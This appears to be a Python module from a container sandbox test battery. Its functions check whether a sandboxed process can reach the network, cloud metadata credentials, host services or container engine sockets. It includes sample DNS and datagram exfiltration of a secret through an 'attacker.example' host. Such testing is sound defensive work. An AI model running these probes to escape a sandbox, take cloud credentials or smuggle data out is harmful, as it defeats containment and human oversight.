"""Reaching anything by a network, or by sockets that lead out of the container."""

from __future__ import annotations

import errno
import os
import re
import socket
from pathlib import Path

from attacks.battery import Outcome, attack, attempt, first_reached, refusals

UNREACHABLE = {
    errno.ENETUNREACH: "no network",
    errno.EHOSTUNREACH: "no network",
    errno.ECONNREFUSED: "no network",
    errno.EADDRNOTAVAIL: "no network",
    errno.ETIMEDOUT: "no network",
    errno.ENETDOWN: "no network",
}
NO_FAMILY = {errno.EAFNOSUPPORT: "kernel", errno.EPROTONOSUPPORT: "kernel", errno.ESOCKTNOSUPPORT: "kernel"}
SECONDS = 2.0
SECRET = "treasure-of-the-sandbox"
HOST_PORTS = (22, 80, 443, 2375, 2376, 5432, 7410, 7420, 10250)


def _socket(family: int, *kinds: int) -> Outcome:
    """Reached when a socket of the family can be made: that part of the kernel is open then."""
    return first_reached(
        {
            f"kind {kind}": attempt(
                lambda kind=kind: socket.socket(family, kind), {**refusals(), **NO_FAMILY}
            )
            for kind in kinds
        }
    )


def _connect(*addresses: tuple[int, tuple[str, int]]) -> Outcome:
    """Reached when one of the addresses answers."""

    def connect(family: int, address: tuple[str, int]) -> str:
        with socket.socket(family, socket.SOCK_STREAM) as stream:
            stream.settimeout(SECONDS)
            stream.connect(address)
        return f"{address} answers"

    layers = {**refusals(), **UNREACHABLE, **NO_FAMILY}
    return first_reached(
        {
            str(address): attempt(lambda family=family, address=address: connect(family, address), layers)
            for family, address in addresses
        }
    )


@attack()
def raw_socket() -> Outcome:
    """Makes packets of its own."""
    outcomes = {
        f"protocol {protocol}": attempt(
            lambda protocol=protocol: socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol),
            {**refusals(), **NO_FAMILY},
        )
        for protocol in (1, 6, 17, 255)
    }
    return first_reached(outcomes)


@attack()
def packet_socket() -> Outcome:
    """Listens to all packets of a wire."""
    return _socket(17, socket.SOCK_RAW, socket.SOCK_DGRAM)


@attack()
def internet_sockets() -> Outcome:
    """Makes sockets of the internet, of both versions."""
    return first_reached(
        {name: _socket(family, 1, 2) for name, family in (("4", socket.AF_INET), ("6", socket.AF_INET6))}
    )


@attack()
def netlink() -> Outcome:
    """Asks the kernel about routes, and tells it others."""
    return _socket(16, socket.SOCK_RAW, socket.SOCK_DGRAM)


@attack()
def netfilter() -> Outcome:
    """Speaks to the packet filter, by netlink."""
    return attempt(lambda: socket.socket(16, socket.SOCK_RAW, 12), {**refusals(), **NO_FAMILY})


@attack()
def vsock() -> Outcome:
    """Speaks to the machine's own machine."""
    return _socket(40, socket.SOCK_STREAM, socket.SOCK_DGRAM)


@attack()
def kernel_ciphers() -> Outcome:
    """Has the kernel's ciphers write to pages of shared files (AF_ALG)."""
    return _socket(38, socket.SOCK_SEQPACKET)


@attack()
def express_data_path() -> Outcome:
    """Shares memory with a network card (AF_XDP)."""
    return _socket(44, socket.SOCK_RAW)


@attack()
def rare_families() -> Outcome:
    """Makes sockets of every other family that a kernel may have."""
    families = [family for family in range(3, 46) if family not in {10, 16, 17, 38, 40, 44}]
    return first_reached({f"family {family}": _socket(family, 1, 2, 3, 5) for family in families})


@attack()
def internet() -> Outcome:
    """Connects to machines of the internet."""
    return _connect(
        (socket.AF_INET, ("1.1.1.1", 443)),
        (socket.AF_INET, ("8.8.8.8", 53)),
        (socket.AF_INET6, ("2606:4700:4700::1111", 443)),
    )


@attack()
def cloud_metadata() -> Outcome:
    """Asks a cloud for the machine's credentials."""
    return _connect(
        (socket.AF_INET, ("169.254.169.254", 80)),
        (socket.AF_INET, ("100.100.100.200", 80)),
        (socket.AF_INET6, ("fd00:ec2::254", 80)),
    )


@attack()
def host_on_loopback() -> Outcome:
    """Connects to services of the machine, the host's own API among them, by its loopback."""
    return _connect(*((socket.AF_INET, ("127.0.0.1", port)) for port in HOST_PORTS))


@attack()
def host_on_gateway() -> Outcome:
    """Connects to services of the machine by the gateway that containers have."""
    return _connect(*((socket.AF_INET, ("172.17.0.1", port)) for port in HOST_PORTS))


@attack()
def resolve_names() -> Outcome:
    """Carries a secret out in names that it looks up."""

    def look_up() -> str:
        try:
            return str(socket.getaddrinfo(f"{SECRET}.attacker.example", 80))
        except socket.gaierror as error:
            raise OSError(errno.ENETUNREACH, str(error)) from error

    return attempt(look_up, UNREACHABLE)


@attack()
def send_datagrams() -> Outcome:
    """Carries a secret out in datagrams to name servers."""

    def send(server: str) -> int:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            return datagrams.sendto(SECRET.encode(), (server, 53))

    layers = {**refusals(), **UNREACHABLE}
    return first_reached(
        {server: attempt(lambda server=server: send(server), layers) for server in ("8.8.8.8", "172.17.0.1")}
    )


@attack()
def learn_resolvers() -> Outcome:
    """Learns the machine's name servers and other hosts from its files."""
    servers = set(re.findall(r"^nameserver\s+(\S+)", Path("/etc/resolv.conf").read_text(), re.MULTILINE))
    strange = servers - {"127.0.0.1"}
    if strange:
        return Outcome(reached=True, detail=f"name servers: {sorted(strange)}")
    return Outcome(reached=False, detail="none but its own loopback", stopped_by="no network")


@attack()
def interfaces() -> Outcome:
    """Looks for a network interface besides its own loopback."""
    lines = Path("/proc/net/dev").read_text().splitlines()[2:]
    # Tunnels of the kernel appear, down, in every network namespace.
    idle = {"lo", "tunl0", "sit0", "ip6tnl0", "gre0", "gretap0", "erspan0", "ip_vti0", "ip6_vti0", "ip6gre0"}
    names = {line.split(":")[0].strip() for line in lines} - idle
    if names:
        return Outcome(reached=True, detail=f"there are {sorted(names)}")
    return Outcome(reached=False, detail="there is none", stopped_by="no network")


@attack()
def abstract_sockets() -> Outcome:
    """Connects to sockets without a file: the engine's shims, the desktop's bus."""
    names = re.findall(r"@\S+", Path("/proc/net/unix").read_text())
    if names:
        return Outcome(reached=True, detail=f"it sees {names[:5]}")

    def connect(name: str) -> str:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as stream:
            stream.connect(f"\0{name}")
        return "connected"

    known = (
        "/tmp/.X11-unix/X0",
        "/tmp/dbus",
        "/containerd-shim/moby/x/shim.sock",
        "docker",
        "/com/ubuntu/upstart",
    )
    return first_reached(
        {name: attempt(lambda name=name: connect(name), {errno.ECONNREFUSED: "namespace"}) for name in known}
    )


@attack()
def engine_socket() -> Outcome:
    """Speaks to the container engine, and so becomes root of the machine."""
    paths = (
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/run/podman/podman.sock",
        "/run/crio/crio.sock",
        "/run/systemd/private",
        "/run/dbus/system_bus_socket",
        "/run/snapd.socket",
    )

    def connect(path: str) -> str:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as stream:
            stream.connect(path)
        return "connected"

    layers = {
        errno.ENOENT: "engine unreachable",
        errno.EACCES: "user id",
        errno.ENOTDIR: "engine unreachable",
    }
    found = first_reached({path: attempt(lambda path=path: connect(path), layers) for path in paths})
    if os.getenv("DOCKER_HOST"):
        return Outcome(reached=True, detail="DOCKER_HOST names an engine")
    return found
